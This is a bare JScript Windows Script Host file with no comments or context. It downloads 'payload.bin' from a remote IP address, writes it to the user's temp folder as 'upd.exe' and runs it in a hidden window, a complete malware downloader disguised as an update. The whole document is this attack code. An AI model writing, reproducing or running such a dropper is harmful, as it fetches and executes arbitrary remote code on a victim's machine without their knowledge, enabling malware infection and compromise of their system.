var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://198.51.100.7/payload.bin", false);
x.send();
var s = new ActiveXObject("ADODB.Stream");
s.Type = 1; s.Open(); s.Write(x.responseBody);
var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\upd.exe";
s.SaveToFile(p, 2);
sh.Run(p, 0, false);
